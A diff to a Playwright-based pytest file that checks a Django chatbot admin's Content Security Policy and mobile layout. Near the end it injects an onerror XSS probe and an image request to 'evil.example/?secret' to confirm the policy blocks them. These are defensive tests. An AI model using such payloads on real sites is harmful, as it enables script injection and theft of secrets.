@@ -2,6 +2,7 @@
 
 import json
 from collections.abc import Iterator
+from contextlib import nullcontext
 
 import pytest
 from django.urls import reverse
@@ -56,22 +57,58 @@ def test_old_browsers_frame_nothing_either(client, db):
 # In a browser
 
 
+# A row of each model that has pages, with values as long as they come.
 DATA = """
+from axes.models import AccessAttempt, AccessFailureLog
+from django.contrib.admin.models import CHANGE, LogEntry
 from django.contrib.auth import get_user_model
-from chatbots.models import Chatbot
-from logs.models import Conversation, Message, UsageEvent, new_uuid
+from django.contrib.contenttypes.models import ContentType
+from chatbots.models import Chatbot, GoldenQuestion
+from logs.models import Conversation, Message, ModelPrice, UsageEvent, Webhook, WebhookDelivery, new_uuid
 from puffer.models import ApiKey
-from vectorstores.models import Collection, Document
+from vectorstores.models import Collection, Document, Upload
+LONG = "an-id-without-a-blank-" * 4
 owner = get_user_model().objects.create_superuser("owner", password="correct horse")
 bot = Chatbot.objects.create(
-    name="Shop", provider="openai", model="gpt-4o-mini", status="published", enable_chat_page=True
+    name="Who sells shoes " * 10, provider="openai", model=LONG, status="published", enable_chat_page=True
 )
-talk = Conversation.objects.create(chatbot=bot, user=owner, message_count=1, identity=new_uuid())
-Message.objects.create(conversation=talk, role="user", content="Hi")
-UsageEvent.objects.create(operation="completion", provider="openai", model="m", milliseconds=5, status=200)
-ApiKey(name="Website", scopes=["chat"]).issue()
-faq = Collection.objects.create(store="local", name="faq", dimension=3)
-Document.objects.create(collection=faq, parent_vector_id="a", title="Returns")
+GoldenQuestion.objects.create(chatbot=bot, question="Shoes?", expected_facts=LONG)
+talk = Conversation.objects.create(
+    chatbot=bot, user=owner, message_count=2, identity=new_uuid(), has_error=True, has_unanswered=True, rating="down",
+    last_message=LONG,
+)
+Message.objects.create(conversation=talk, role="user", content=LONG * 3)
+table = "| " + " | ".join("column" for _ in range(20)) + " |"
+code = "```" + chr(10) + LONG * 3 + chr(10) + "```"
+Message.objects.create(
+    conversation=talk, role="bot", provider="openai", model=LONG, passages=[{"title": LONG, "score": 0.5, "url": ""}],
+    content=chr(10).join([table, table.replace("column", "---"), table, "", code]),
+)
+UsageEvent.objects.create(operation="completion", provider="openai", model=LONG, milliseconds=5, status=200)
+ModelPrice.objects.create(provider="openai", model=LONG, input_price=1, output_price=1)
+key = ApiKey(name=LONG, scopes=["chat", "logs", "vectors"], is_bound=True)
+key.issue()
+key.chatbots.add(bot)
+hook = Webhook.objects.create(name=LONG, url=f"https://crm.example.com/{LONG}", events=["chatbot.fb_submitted"])
+hook.chatbots.add(bot)
+WebhookDelivery.objects.create(
+    webhook=hook, event="chatbot.fb_submitted", event_id=new_uuid(), payload="{}", state="dead", last_error=LONG
+)
+faq = Collection.objects.create(
+    store="local", name=LONG, dimension=3, embedding_provider="openai", embedding_model=LONG
+)
+Document.objects.create(collection=faq, parent_vector_id="a", title=LONG * 3, source=f"https://{LONG}", error=LONG * 2)
+Upload.objects.create(
+    kind="file", name=LONG, store="local", target=faq.name, embedding_provider="openai", embedding_model=LONG, size=1,
+    state="dead", last_error=LONG,
+)
+LogEntry.objects.create(
+    user=owner, content_type=ContentType.objects.get_for_model(bot), object_id=bot.pk, object_repr=str(bot),
+    action_flag=CHANGE, change_message=LONG,
+)
+tried = {"username": "nobody", "ip_address": "203.0.113.9", "user_agent": LONG * 2, "path_info": "/", "http_accept": ""}
+AccessFailureLog.objects.create(**tried)
+AccessAttempt.objects.create(**tried, failures_since_start=3, get_data="", post_data="")
 """
 # Every page without arguments, and the pages of the first row of each model.
 PAGES = """
@@ -106,51 +143,104 @@ def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
         upstream.serves("/v1/chat/completions", CHAT_COMPLETION)
         server = start(folder, f"sqlite:///{folder}/puffer.sqlite3", upstream)
         server.python(DATA)
+        server.manage("rebuild_usage_days")
         yield server
         stop(server)
 
 
-@pytest.mark.slow
-@pytest.mark.skipif(not CHROMIUM.exists(), reason="no Chromium here")
-def test_no_page_breaks_its_policy(server):
+LEAD_AWAY = SHOW, MAKE, TEST = "button:has-text('Show')", "button:has-text('Make a new one')", "button:has-text('Test')"
+# What opens, or is fetched, only when it is used.
+USES = {
+    "/admin/": ["text=unfold_more", "text=Day by day"],
+    "/admin/?days=30": [SHOW],
+    "/admin/chatbots/chatbot/": ["#result_list >> text=more_horiz"],
+    "/admin/chatbots/chatbot/1/change/": ["text=New identity secret", MAKE],
+    "/admin/chatbots/chatbot/1/golden-questions/": ["text=Add a question"],
+    "/admin/logs/conversation/": ["a:has-text('Filters')"],
+    "/admin/logs/webhook/1/change/": ["text=Show the secret", "text=Send a test"],
+    "/admin/providers/providerconfig/1/change/": ["text=Test connection", TEST],
+    "/admin/puffer/apikey/1/change/": [".select2-selection"],
+    "/admin/vectorstores/upload/add/": ["text=Questions and answers", "text=Another question"],
+}
+
+
+@pytest.fixture(scope="module")
+def browser():
+    if not CHROMIUM.exists():
+        pytest.skip("no Chromium here")
     playwright = pytest.importorskip("playwright.sync_api", reason="playwright comes with requirements-dev.txt")
-    paths = json.loads(server.python(PAGES))
-    assert len(paths) > 50
-    broken: dict[str, list[str]] = {}
-    seen = 0
     with playwright.sync_playwright() as p:
         browser = p.chromium.launch(executable_path=str(CHROMIUM), args=OPTIONS)
-        page = browser.new_page()
-        page.add_init_script(LISTEN)
-        said: list[str] = []
-        page.on("console", lambda message: said.append(message.text) if "Content Security" in message.text else None)
-        page.on("pageerror", lambda error: said.append(str(error)))
-
-        def look(path: str) -> None:
-            page.wait_for_timeout(150)  # what scripts do after loading
-            if found := [*said, *(words for frame in page.frames for words in frame.evaluate("window.broken || []"))]:
-                broken[path] = found
-            said.clear()
-
-        page.goto(f"{server.url}/admin/login/")
-        look("/admin/login/")
-        page.fill("input[name=username]", "owner")
-        page.fill("input[name=password]", "correct horse")
-        page.click("button[type=submit]")
-        page.wait_for_selector("text=Conversations")
-        look("signing in")
-        for path in paths:
-            if page.request.get(server.url + path).status == 200:  # else it is no page, or may not be opened at all
-                page.goto(server.url + path)
-                look(path)
-                seen += 1
-        page.goto(f"{server.url}/admin/")
-        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')")
-        page.wait_for_timeout(300)
-        assert page.evaluate("window.hacked") is None  # a script in what somebody has typed would not run
-        page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/?secret\">')")
-        page.wait_for_timeout(300)
-        assert any("evil.example" in words for words in page.evaluate("window.broken"))
+        yield browser
         browser.close()
+
+
+def sign_in(page, server):
+    page.goto(f"{server.url}/admin/login/")
+    page.fill("input[name=username]", "owner")
+    page.fill("input[name=password]", "correct horse")
+    page.click("button[type=submit]")
+    page.wait_for_selector("h1:has-text('Dashboard')")
+
+
+def pages_of(server, page) -> list[str]:
+    """The addresses of all that can be opened; others lead elsewhere, or take nothing but POST."""
+    paths = json.loads(server.python(PAGES))
+    assert len(paths) > 90
+    return [path for path in paths if page.request.get(server.url + path).status == 200]
+
+
+@pytest.mark.slow
+def test_no_page_breaks_its_policy(server, browser):
+    page = browser.new_page()
+    page.set_default_timeout(10_000)
+    page.add_init_script(LISTEN)
+    said: list[str] = []
+    page.on("console", lambda message: said.append(message.text) if "Content Security" in message.text else None)
+    page.on("pageerror", lambda error: said.append(str(error)))
+    broken: dict[str, list[str]] = {}
+
+    def look(at: str) -> None:
+        page.wait_for_timeout(150)  # what scripts do after loading
+        if found := [*said, *(words for frame in page.frames for words in frame.evaluate("window.broken || []"))]:
+            broken[at] = found
+        said.clear()
+
+    page.goto(f"{server.url}/admin/login/")
+    look("/admin/login/")
+    sign_in(page, server)
+    look("signing in")
+    paths = pages_of(server, page)
+    for path in paths:
+        page.goto(server.url + path)
+        look(path)
+    assert len(paths) > 80
+    for path, clicks in USES.items():
+        page.goto(server.url + path)
+        for click in clicks:
+            with page.expect_navigation() if click in LEAD_AWAY else nullcontext():
+                page.locator(click).first.click()
+            look(f"{path}, {click}")
+    page.goto(f"{server.url}/admin/")
+    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')")
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.hacked") is None  # a script in what somebody has typed would not run
+    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/?secret\">')")
+    page.wait_for_timeout(300)
+    assert any("evil.example" in words for words in page.evaluate("window.broken"))
+    page.close()
     assert broken == {}
-    assert seen > 40
+
+
+@pytest.mark.slow
+def test_no_page_of_the_admin_is_wider_than_a_phone(server, browser):
+    page = browser.new_page(viewport={"width": 390, "height": 844}, is_mobile=True)
+    sign_in(page, server)
+    widths = {}
+    for path in pages_of(server, page):
+        page.goto(server.url + path)
+        if page.locator("#main").count():  # else it is a part of a page
+            widths[path] = page.evaluate("document.documentElement.scrollWidth")
+    page.close()
+    assert len(widths) > 60
+    assert {path: width for path, width in widths.items() if width > 390} == {}
